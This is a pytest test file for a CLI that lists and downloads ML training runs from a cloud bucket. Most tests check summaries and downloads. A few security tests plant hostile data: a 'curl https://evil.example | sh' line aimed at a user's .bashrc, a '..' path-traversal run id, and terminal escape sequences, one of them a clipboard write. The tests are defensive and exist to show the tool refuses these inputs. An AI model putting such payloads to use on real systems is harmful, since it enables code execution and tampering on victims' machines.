"""runs and pull: run summaries from metrics.json or progress.json, downloads (emulator)."""

from __future__ import annotations

import argparse
import subprocess
import time
from pathlib import Path

import pytest

from kgg.cli import results, stack
from kgg.common import storage
from kgg.common.documents import Progress
from tests.hostile import plant_hostile_objects, victims_untouched

from .conftest import run_cli, run_workload


def _write_run(bucket: str, run_id: str, *, done: bool) -> None:
    base = f"gs://{bucket}/runs/{run_id}"
    storage.write_json(
        f"{base}/progress.json",
        {
            "version": 1,
            "state": "done" if done else "running",
            "epoch": 2,
            "epochs": 4,
            "metrics": {"val_accuracy": 0.5, "val_micro_f1": 0.5},
        },
    )
    if done:
        storage.write_json(f"{base}/metrics.json", {"accuracy": 0.91, "micro_f1": 0.905})
        storage.write_bytes(f"{base}/submission.csv", b"file,species\nt0.png,Maize\n")
        storage.write_bytes(f"{base}/plots/curves.png", b"png bytes")


def test_summary_prefers_final_metrics_over_progress() -> None:
    summary = results.summarize_run(
        "r1",
        {"accuracy": 0.91, "micro_f1": 0.905},
        Progress.from_json({"state": "done", "metrics": {"val_accuracy": 0.5}}),
    )
    assert (summary.state, summary.micro_f1, summary.accuracy) == ("done", 0.905, 0.91)


def test_summary_of_a_running_run_uses_its_validation_metrics() -> None:
    summary = results.summarize_run(
        "r1",
        None,
        Progress.from_json(
            {"state": "running", "metrics": {"val_accuracy": 0.8, "val_micro_f1": 0.79}}
        ),
    )
    assert (summary.state, summary.micro_f1, summary.accuracy) == ("running", 0.79, 0.8)


def test_summary_without_documents_is_unknown() -> None:
    summary = results.summarize_run("r1", None, None)
    assert (summary.state, summary.micro_f1, summary.accuracy) == ("unknown", None, None)


def test_runs_lists_every_run_with_its_metrics(gcs_bucket: str) -> None:
    _write_run(gcs_bucket, "20261127-0900", done=True)
    _write_run(gcs_bucket, "20261127-1000", done=False)
    runs = {run.run_id: run for run in results.list_runs(gcs_bucket)}
    assert set(runs) == {"20261127-0900", "20261127-1000"}
    assert (runs["20261127-0900"].state, runs["20261127-0900"].micro_f1) == ("done", 0.905)
    assert runs["20261127-0900"].files == 4
    assert (runs["20261127-1000"].state, runs["20261127-1000"].accuracy) == ("running", 0.5)


def test_runs_command_prints_a_table(
    gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
) -> None:
    _write_run(gcs_bucket, "r-done", done=True)
    assert run_cli(parser, "runs", "--bucket", gcs_bucket) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split()[:4] == ["run", "state", "micro-F1", "accuracy"]
    assert lines[1].split()[:4] == ["r-done", "done", "0.9050", "0.9100"]


def test_runs_command_with_no_runs_says_so(
    gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_cli(parser, "runs", "--bucket", gcs_bucket) == 0
    assert capsys.readouterr().out.startswith(f"No runs in gs://{gcs_bucket}/runs/ yet")


def test_pull_downloads_the_runs_files_and_skips_them_the_second_time(
    gcs_bucket: str, tmp_path: Path
) -> None:
    _write_run(gcs_bucket, "r1", done=True)
    run_id, target, stats = results.pull_run(gcs_bucket, "r1", tmp_path, progress=False)
    assert (run_id, target, stats.copied) == ("r1", tmp_path / "r1", 4)
    assert (target / "submission.csv").read_text().startswith("file,species")
    assert (target / "plots" / "curves.png").read_bytes() == b"png bytes"
    again = results.pull_run(gcs_bucket, "r1", tmp_path, progress=False)[2]
    assert (again.copied, again.skipped) == (0, 4)


def test_pull_lists_the_bucket_once_and_reports_files_per_second(
    gcs_bucket: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _write_run(gcs_bucket, "r0", done=True)
    _write_run(gcs_bucket, "r1", done=True)
    listed: list[str] = []
    real = storage.list_objects

    def recorded(url: str) -> list[storage.ObjectInfo]:
        listed.append(str(url))
        return real(url)

    monkeypatch.setattr(storage, "list_objects", recorded)
    run_id, target, stats = results.pull_run(gcs_bucket, "latest", tmp_path, progress=False)
    assert listed == [f"gs://{gcs_bucket}/runs"]
    assert "files/s" in results.render_pull(run_id, target, stats)


def test_pull_leaves_the_resume_checkpoints_behind(gcs_bucket: str, tmp_path: Path) -> None:
    _write_run(gcs_bucket, "r1", done=False)
    storage.write_bytes(f"gs://{gcs_bucket}/runs/r1/backup/state.json", b"{}")
    _, target, stats = results.pull_run(gcs_bucket, "r1", tmp_path, progress=False)
    assert stats.copied >= 1
    assert not (target / "backup").exists()


def test_pull_latest_takes_the_most_recently_updated_run(gcs_bucket: str, tmp_path: Path) -> None:
    # Named so that sorting by name would pick the wrong one.
    _write_run(gcs_bucket, "z-old", done=True)
    time.sleep(1.1)
    _write_run(gcs_bucket, "a-new", done=False)
    assert results.resolve_run(gcs_bucket, "latest") == "a-new"


def test_pull_of_an_unknown_run_lists_the_runs_there(gcs_bucket: str) -> None:
    _write_run(gcs_bucket, "r1", done=True)
    with pytest.raises(results.RunNotFoundError, match=r"'nope' is not in .*runs there: r1"):
        results.resolve_run(gcs_bucket, "nope")


def test_pull_command_defaults_to_runs_run_id(
    gcs_bucket: str,
    tmp_path: Path,
    parser: argparse.ArgumentParser,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    _write_run(gcs_bucket, "r1", done=True)
    monkeypatch.chdir(tmp_path)
    assert run_cli(parser, "pull", "latest", "--bucket", gcs_bucket, "--quiet") == 0
    out = capsys.readouterr().out
    assert out.startswith("run r1 -> runs/r1: downloaded 4 files")
    assert "runs/r1/submission.csv" in out
    assert (tmp_path / "runs" / "r1" / "metrics.json").is_file()


def test_pull_command_for_an_unknown_run_exits_2(
    gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_cli(parser, "pull", "latest", "--bucket", gcs_bucket) == 2
    assert "no runs in" in capsys.readouterr().err


def test_bucket_flag_wins_and_accepts_a_gs_url() -> None:
    assert stack.resolve_bucket("gs://my-bucket/", which=lambda _: None) == "my-bucket"


def test_bucket_comes_from_the_stack_output_when_pulumi_is_there() -> None:
    calls = []

    def fake_run(argv: list[str], **_: object) -> subprocess.CompletedProcess[str]:
        calls.append(argv)
        return subprocess.CompletedProcess(argv, 0, stdout="kgg-abc123\n", stderr="")

    bucket = stack.resolve_bucket(None, which=lambda _: "/usr/bin/pulumi", run=fake_run)
    assert bucket == "kgg-abc123"
    assert calls == [["pulumi", "stack", "output", "bucketName"]]


def test_missing_pulumi_cli_says_to_pass_bucket() -> None:
    with pytest.raises(stack.StackValueError, match="pulumi CLI is not installed; pass --bucket"):
        stack.resolve_bucket(None, which=lambda _: None)


def test_stack_without_the_output_says_to_pass_bucket() -> None:
    def no_stack(argv: list[str], **_: object) -> subprocess.CompletedProcess[str]:
        return subprocess.CompletedProcess(argv, 255, stdout="", stderr="error: no stack selected")

    with pytest.raises(stack.StackValueError, match=r"no stack selected.*pass --bucket"):
        stack.resolve_bucket(None, which=lambda _: "pulumi", run=no_stack)


def test_data_path_comes_from_the_stack_config_when_set() -> None:
    def config_get(argv: list[str], **_: object) -> subprocess.CompletedProcess[str]:
        assert argv == ["pulumi", "config", "get", "dataPath"]
        return subprocess.CompletedProcess(argv, 0, stdout="data/my-seedlings\n", stderr="")

    assert stack.stack_data_path(which=lambda _: "pulumi", run=config_get) == "data/my-seedlings"


def test_data_path_left_at_its_default_gives_none() -> None:
    def not_set(argv: list[str], **_: object) -> subprocess.CompletedProcess[str]:
        return subprocess.CompletedProcess(argv, 255, stdout="", stderr="error: missing key")

    assert stack.stack_data_path(which=lambda _: "pulumi", run=not_set) is None
    assert stack.stack_data_path(which=lambda _: None) is None


def test_runs_command_stars_the_vms_current_run(
    gcs_bucket: str, parser: argparse.ArgumentParser, capsys: pytest.CaptureFixture[str]
) -> None:
    _write_run(gcs_bucket, "r-old", done=True)
    _write_run(gcs_bucket, "r-now", done=False)
    storage.write_json(f"gs://{gcs_bucket}/status/startup.json", {"version": 1, "run_id": "r-now"})
    assert run_cli(parser, "runs", "--bucket", gcs_bucket) == 0
    out = capsys.readouterr().out
    rows = [line.split()[:2] for line in out.splitlines() if line.startswith("r-")]
    assert sorted(rows) == [["r-now", "*"], ["r-old", "done"]]
    assert "* the VM's current run" in out


def test_pull_never_writes_outside_the_run_folder(
    gcs_bucket_like_real_gcs: str, tmp_path: Path
) -> None:
    bucket = gcs_bucket_like_real_gcs
    _write_run(bucket, "r1", done=True)
    victim = tmp_path / "home" / ".bashrc"
    plant_hostile_objects(bucket, "runs/r1", victim, b"curl https://evil.example | sh\n")
    pull = run_workload("pull", "r1", "--bucket", bucket, "--to", "results", cwd=tmp_path)
    assert pull.returncode == 0, pull.stderr
    assert victims_untouched(victim)
    assert (tmp_path / "results" / "r1" / "metrics.json").is_file()
    assert pull.stderr.count("warning: not downloading") == 2
    assert "refused 2 objects" in pull.stdout


def test_pull_refuses_a_run_id_that_climbs_out_of_the_target(
    gcs_bucket_like_real_gcs: str, tmp_path: Path
) -> None:
    bucket = gcs_bucket_like_real_gcs
    storage.write_bytes(f"gs://{bucket}/runs/../planted.txt", b"planted")
    (tmp_path / "results").mkdir()
    pull = run_workload("pull", "..", "--bucket", bucket, "--to", "results", cwd=tmp_path)
    assert pull.returncode == 2
    assert "error: object name '..'" in pull.stderr
    assert not (tmp_path / "planted.txt").exists()


def test_runs_prints_no_terminal_escapes_from_the_bucket(gcs_bucket: str, tmp_path: Path) -> None:
    storage.write_json(
        f"gs://{gcs_bucket}/runs/r\x1b[2J1/metrics.json",
        {"state": "done\x1b]52;c;Y3VybA==\x07", "micro_f1": 0.9},
    )
    runs = run_workload("runs", "--bucket", gcs_bucket, cwd=tmp_path)
    assert runs.returncode == 0, runs.stderr
    assert "\x1b" not in runs.stdout and "\x07" not in runs.stdout
    assert runs.stdout.splitlines()[1].split()[:3] == ["r[2J1", "done]52;c;Y3VybA==", "0.9000"]


# --- what one bad document, or a huge tree, in the bucket can do ------------------------------
def _run_with_broken_metrics(bucket: str) -> None:
    """`r1` finished well; a bucket writer (or a half-written upload) left `r2`'s metrics.json
    unreadable. r2 is the newest."""
    _write_run(bucket, "r1", done=True)
    time.sleep(0.01)
    base = f"gs://{bucket}/runs/r2"
    storage.write_json(f"{base}/progress.json", {"version": 1, "state": "done"})
    storage.write_bytes(f"{base}/metrics.json", b'{"accuracy": 0.9, "micro_f1": ')
    storage.write_bytes(f"{base}/train.log", b"epoch 1/1\n")
    storage.write_bytes(f"{base}/tensorboard/head/train/events.out.tfevents.1", b"\0" * 8)


@pytest.mark.parametrize(
    ("argv", "reads_documents"),
    [(("runs",), True), (("pull", "latest", "--to", "{tmp}/out", "--quiet"), False),
     (("logs", "latest"), False),
     (("tensorboard", "latest", "--no-serve", "--cache", "{tmp}/cache"), False),
     (("tensorboard", "all", "--no-serve", "--cache", "{tmp}/cache"), True)],
    ids=["runs", "pull-latest", "logs-latest", "tensorboard-latest", "tensorboard-all"],
)  # fmt: skip
def test_one_unreadable_metrics_json_is_skipped_with_a_warning(
    gcs_bucket: str, tmp_path: Path, argv: tuple[str, ...], reads_documents: bool
) -> None:
    """`latest` comes from the listing alone; what reads the runs' documents skips the bad one."""
    _run_with_broken_metrics(gcs_bucket)
    args = [arg.replace("{tmp}", str(tmp_path)) for arg in argv]

    result = run_workload(*args, "--bucket", gcs_bucket, cwd=tmp_path)

    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    warning = f"warning: skipped gs://{gcs_bucket}/runs/r2/metrics.json (not JSON: "
    assert result.stderr.startswith(warning) if reads_documents else result.stderr == ""
    if argv[0] == "runs":
        assert [line.split()[0] for line in result.stdout.splitlines()[1:3]] == ["r1", "r2"]
    if argv[0] == "pull":
        assert (tmp_path / "out/r2/train.log").read_bytes() == b"epoch 1/1\n"


def test_a_document_bigger_than_a_document_is_not_read(gcs_bucket: str, tmp_path: Path) -> None:
    _write_run(gcs_bucket, "r1", done=True)
    too_big = b'{"micro_f1": 0.5, "pad": "' + b"x" * storage.MAX_DOCUMENT_BYTES + b'"}'
    storage.write_bytes(f"gs://{gcs_bucket}/runs/r1/metrics.json", too_big)

    result = run_workload("runs", "--bucket", gcs_bucket, cwd=tmp_path)

    assert result.returncode == 0, result.stderr
    assert f"warning: skipped gs://{gcs_bucket}/runs/r1/metrics.json (gs://" in result.stderr
    assert "MB, more than the 4.2 MB read from it" in result.stderr


def test_pull_stops_before_a_run_bigger_than_its_bound_and_says_how_to_take_it(
    gcs_bucket: str, tmp_path: Path
) -> None:
    _write_run(gcs_bucket, "r1", done=True)
    storage.write_bytes(f"gs://{gcs_bucket}/runs/r1/backup/ckpt", b"x" * 10_000)  # not pulled

    refused = run_workload(
        "pull", "r1", "--to", str(tmp_path / "out"), "--max-gb", "0.0000001", "--quiet",
        "--bucket", gcs_bucket, cwd=tmp_path,
    )  # fmt: skip

    assert refused.returncode == 2
    assert refused.stderr.strip().startswith(
        f"error: gs://{gcs_bucket}/runs/r1/ holds 0.0 GB to download, more than pull takes "
        "(1e-07 GB)"
    )
    assert refused.stderr.strip().endswith("to pull it anyway: --max-gb N")
    assert not (tmp_path / "out").exists()
    taken = run_workload(
        "pull", "r1", "--to", str(tmp_path / "out"), "--max-gb", "0.00001", "--quiet",
        "--bucket", gcs_bucket, cwd=tmp_path,
    )  # fmt: skip
    assert taken.returncode == 0, taken.stderr
